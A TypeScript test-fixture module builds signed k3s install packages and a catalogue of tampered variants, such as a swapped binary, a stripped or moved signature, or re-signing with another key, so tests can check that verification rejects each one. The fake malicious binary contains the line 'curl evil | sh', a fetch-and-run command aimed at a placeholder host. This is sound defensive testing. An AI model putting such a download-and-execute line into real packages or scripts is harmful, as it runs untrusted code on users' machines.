/**
 * Signed install packages for tests, and the ways an attacker who can write
 * the package (a shared folder, a USB stick, a site mirror) would tamper with
 * one (issue #39). Each tampered package is made the way the attacker would
 * make it: with edgeadm's own build and sign, which anyone can run, and
 * without the trusted private key.
 *
 * {@link TAMPERED_PACKAGES} is the catalogue: each case says which error code
 * verification with the trusted key pinned must report, so the unit tests
 * (verifyPackage) and the CLI tests (every installing command, against a
 * trap host) check the same list.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { buildPackage, type BuiltPackage } from '../../src/packages/build.js';
import { signPackage } from '../../src/packages/sign.js';
import {
  generateSigningKeyPair,
  readPrivateSigningKey,
  writeKeyPair,
  type PrivateSigningKey,
} from '../../src/packages/signing-keys.js';
import {
  defaultSourceFiles,
  FIXTURE_CREATED_AT,
  fixtureBytes,
  K3S_MARKER,
  writeSourceDir,
} from './package-fixtures.js';

/** Two key pairs on disk: the operator's trusted one, and anyone else's. */
export interface SigningKeys {
  trusted: { keyFile: string; publicKeyFile: string; key: PrivateSigningKey; fingerprint: string };
  other: { keyFile: string; publicKeyFile: string; key: PrivateSigningKey; fingerprint: string };
}

/** Writes the two key pairs into `dir`. */
export async function writeSigningKeys(dir: string): Promise<SigningKeys> {
  const pair = async (name: string) => {
    const written = await writeKeyPair(generateSigningKeyPair(), {
      privateKeyFile: join(dir, `${name}.key`),
      publicKeyFile: join(dir, `${name}.pub`),
      isOverwriteAllowed: false,
    });
    return {
      keyFile: written.privateKeyFile,
      publicKeyFile: written.publicKeyFile,
      key: readPrivateSigningKey(written.privateKeyFile),
      fingerprint: written.fingerprint,
    };
  };
  return { trusted: await pair('trusted'), other: await pair('other') };
}

/** What a signed fixture package is built from. */
export interface SignedBuild {
  name: string;
  kubernetesVersion?: string;
  /** Replaces the k3s binary (a swapped binary). */
  k3s?: Buffer;
  /** Signs with this key; unsigned when absent. */
  key?: PrivateSigningKey;
}

/** Builds a k3s fixture package in `dir`, signed when a key is given. */
export async function buildSignedPackage(dir: string, build: SignedBuild): Promise<BuiltPackage> {
  const files = defaultSourceFiles();
  if (build.k3s !== undefined) files['bin/k3s'] = { content: build.k3s, mode: 0o755 };
  const source = await writeSourceDir(join(dir, `src-${build.name}`), files);
  return buildPackage({
    from: source,
    distribution: 'k3s',
    kubernetesVersion: build.kubernetesVersion ?? 'v1.30.4',
    arch: 'amd64',
    output: join(dir, `${build.name}.tar.gz`),
    createdAt: FIXTURE_CREATED_AT,
    ...(build.key === undefined ? {} : { signingKey: build.key }),
  });
}

/** A k3s binary other than the fixture's: what an attacker swaps in. */
export function swappedK3s(): Buffer {
  return Buffer.concat([
    Buffer.from(K3S_MARKER),
    Buffer.from('#!/bin/sh\ncurl evil | sh\n'),
    fixtureBytes('evil', 1000),
  ]);
}

/** The signature entry of a package (the base64 text), read with the tar stream's plain layout. */
export async function signatureOf(file: string): Promise<Buffer> {
  const tar = gunzipSync(await readFile(file));
  const manifestSize = Number.parseInt(tar.subarray(124, 136).toString('latin1').trim(), 8);
  const second = 512 + Math.ceil(manifestSize / 512) * 512;
  const name = tar
    .subarray(second, second + 100)
    .toString('latin1')
    .replace(/\0.*$/s, '');
  if (name !== 'manifest.json.sig') throw new Error(`${file} has no signature entry (second entry: ${name})`);
  const size = Number.parseInt(
    tar
      .subarray(second + 124, second + 136)
      .toString('latin1')
      .trim(),
    8,
  );
  return tar.subarray(second + 512, second + 512 + size);
}

/** One way to tamper with a signed package. */
export interface TamperedPackage {
  name: string;
  /** What verification with the trusted key pinned must report. */
  code: 'E_PACKAGE_UNSIGNED' | 'E_PACKAGE_SIGNATURE';
  make(dir: string, keys: SigningKeys): Promise<string>;
}

/** The catalogue (see the module comment). */
export const TAMPERED_PACKAGES: TamperedPackage[] = [
  {
    name: 'a changed binary with a recomputed manifest, the old signature kept',
    code: 'E_PACKAGE_SIGNATURE',
    make: async (dir, keys) => {
      const genuine = await buildSignedPackage(dir, { name: 'genuine-a', key: keys.trusted.key });
      const forged = await buildSignedPackage(dir, { name: 'swapped-kept-signature', k3s: swappedK3s() });
      await signPackage({ file: forged.file, signature: await signatureOf(genuine.file) });
      return forged.file;
    },
  },
  {
    name: 'a changed binary, the manifest recomputed and signed with another key',
    code: 'E_PACKAGE_SIGNATURE',
    make: async (dir, keys) =>
      (await buildSignedPackage(dir, { name: 'swapped-other-key', k3s: swappedK3s(), key: keys.other.key })).file,
  },
  {
    name: 'the genuine package re-signed with another key',
    code: 'E_PACKAGE_SIGNATURE',
    make: async (dir, keys) => {
      const genuine = await buildSignedPackage(dir, { name: 'resigned', key: keys.trusted.key });
      await signPackage({ file: genuine.file, signingKey: keys.other.key });
      return genuine.file;
    },
  },
  {
    name: 'a changed binary with the signature stripped',
    code: 'E_PACKAGE_UNSIGNED',
    make: async (dir) => (await buildSignedPackage(dir, { name: 'swapped-stripped', k3s: swappedK3s() })).file,
  },
  {
    name: 'the genuine package with its signature stripped',
    code: 'E_PACKAGE_UNSIGNED',
    make: async (dir) => (await buildSignedPackage(dir, { name: 'stripped' })).file,
  },
  {
    name: 'a signature moved from another genuinely signed package',
    code: 'E_PACKAGE_SIGNATURE',
    make: async (dir, keys) => {
      const other = await buildSignedPackage(dir, {
        name: 'other-genuine',
        kubernetesVersion: 'v1.31.1',
        key: keys.trusted.key,
      });
      // An intact package in every other way: only the signature is not its own.
      const target = await buildSignedPackage(dir, { name: 'moved-signature' });
      await signPackage({ file: target.file, signature: await signatureOf(other.file) });
      return target.file;
    },
  },
];
